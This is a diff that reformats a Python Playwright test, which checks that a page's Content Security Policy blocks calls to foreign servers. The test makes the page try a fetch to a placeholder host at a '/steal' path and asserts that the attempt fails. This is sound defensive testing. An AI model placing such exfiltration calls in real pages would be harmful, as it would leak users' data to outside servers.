@@ -1,6 +1,7 @@
 """What a page may do in a real browser: nothing but talk to its own server.
 
-The `watch` fixture fails every browser test on a call to a foreign server; here the page is made to try.
+The `watch` fixture fails every browser test on a call to a foreign server; here the page is made to
+try.
 """
 
 from __future__ import annotations
@@ -43,7 +44,8 @@ def test_nothing_leaves_for_a_foreign_server(live: str, page: Page, watch: Watch
     watch.allow("Content Security Policy", "call to a foreign server", "Failed to fetch")
     page.goto(live)
     outcome = page.evaluate(
-        "() => fetch('http://192.0.2.1/steal', {mode: 'no-cors'}).then(() => 'sent', error => error.name)"
+        "() => fetch('http://192.0.2.1/steal', {mode: 'no-cors'})"
+        ".then(() => 'sent', error => error.name)"
     )
     assert outcome == "TypeError"
 
